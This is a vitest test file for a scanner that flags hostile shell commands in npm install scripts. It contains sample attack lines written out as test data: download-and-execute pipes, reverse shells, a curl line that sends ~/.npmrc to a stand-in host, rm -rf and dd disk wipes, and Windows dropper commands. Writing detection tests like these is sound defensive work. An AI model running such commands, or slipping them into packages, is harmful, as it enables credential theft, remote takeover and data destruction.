import { describe, expect, it } from 'vitest'
import { analyseShellLine } from '../../src/npm/shell-line.js'
import { readManifest } from '../../src/npm/index.js'

const kinds = (line: string): string[] => analyseShellLine(line).signals.map((s) => s.kind)

describe('lifecycle command lines read as shell', () => {
  it('runs every command joined by &, &&, ; and unwraps start /B, cmd /c, sh -c, powershell -Command', () => {
    const names = (line: string): string[] => analyseShellLine(line).commands.map((c) => c.words[0] ?? '')
    expect(names('start /B node a.js & node b.js')).toEqual(['start', 'node', 'node'])
    expect(analyseShellLine('start /B node a.js & node b.js').commands[1]?.background).toBe(true)
    expect(names('cmd /c "node x.js && echo done"')).toEqual(['cmd', 'node', 'echo'])
    expect(names("sh -c 'node y.js; true'")).toEqual(['sh', 'node', 'true'])
    expect(names('powershell -NoProfile -Command node z.js')).toEqual(['powershell', 'node'])
  })

  it('package.json steps include the script after a single &', () => {
    const m = readManifest('package.json', JSON.stringify({ name: 'p', scripts: { preinstall: 'start /B node one.js & node two.js' } }))
    expect(m.scripts[0]?.steps.filter((s) => s.kind === 'node-file').map((s) => s.file)).toEqual(['one.js', 'two.js'])
  })

  it('downloads piped into interpreters, in every spelling', () => {
    expect(kinds('wget -qO- http://h.invalid/s | sudo sh')).toContain('remote-pipe')
    expect(kinds('bash -c "$(curl -fsSL http://h.invalid/x)"')).toContain('remote-pipe')
    expect(kinds('powershell -c "iex (New-Object Net.WebClient).DownloadString(\'http://h.invalid\')"')).toContain('remote-pipe')
    expect(kinds('curl -fsSL http://h.invalid/x -o /tmp/nope')).toEqual([])
  })

  it('downloaded files made executable or run', () => {
    expect(kinds('curl -o /tmp/x/a http://h.invalid/a && chmod 755 /tmp/x/a')).toContain('download-exec')
    expect(kinds('wget http://h.invalid/b -O b; ./b')).toContain('download-exec')
  })

  it('reverse shells and data sent out', () => {
    expect(kinds('sh -i >& /dev/udp/127.0.0.1/53 0>&1')).toContain('reverse-shell')
    expect(kinds('ncat 127.0.0.1 9 -e /bin/sh')).toContain('reverse-shell')
    expect(kinds('dig `hostname`.x.invalid')).toContain('exfiltration')
    expect(kinds('curl -F f=@$HOME/.npmrc https://h.invalid')).toContain('exfiltration')
    expect(kinds('wget --post-file=/etc/hosts http://h.invalid')).toContain('exfiltration')
    expect(kinds('wget --post-file /etc/hosts http://h.invalid')).toContain('exfiltration')
  })

  it('the root, a system directory, the home directory or a disk destroyed wholesale', () => {
    expect(kinds('rm -rf ~/')).toEqual(['destructive'])
    expect(kinds('sudo rm -fr /usr')).toEqual(['destructive'])
    expect(kinds('sh -c "dd if=/dev/urandom of=/dev/sda"')).toEqual(['destructive'])
    expect(kinds('rm -rf build ~/.cache/pkg /tmp/x')).toEqual([])
  })

  it('Windows download-and-run tools and policy bypass', () => {
    expect(kinds('bitsadmin /transfer j http://h.invalid/a.exe %TEMP%\\a.exe')).toContain('windows-dropper')
    expect(kinds('mshta http://h.invalid/x.hta')).toContain('windows-dropper')
    expect(kinds('powershell -WindowStyle Hidden -File x.ps1')).toContain('policy-bypass')
  })

  it('ordinary install lines say nothing', () => {
    for (const line of ['node-gyp rebuild', 'husky install && tsc -p .', 'node install.js || npm run build', 'prebuild-install || node-gyp rebuild --release', 'curl --version', 'echo "$npm_package_name installed"'])
      expect(kinds(line)).toEqual([])
  })

  it('hostile lines stay bounded', () => {
    const long = Array.from({ length: 5000 }, (_, i) => `sh -c "echo ${i}"`).join(' & ')
    const facts = analyseShellLine(long)
    expect(facts.commands.length).toBeLessThanOrEqual(200)
    const nested = `${'sh -c "'.repeat(50)}curl x | sh${'"'.repeat(50)}`
    const deep = analyseShellLine(nested)
    expect(deep.commands[0]?.words[0]).toBe('sh')
    expect(deep.commands.length).toBeLessThanOrEqual(10)
  })
})
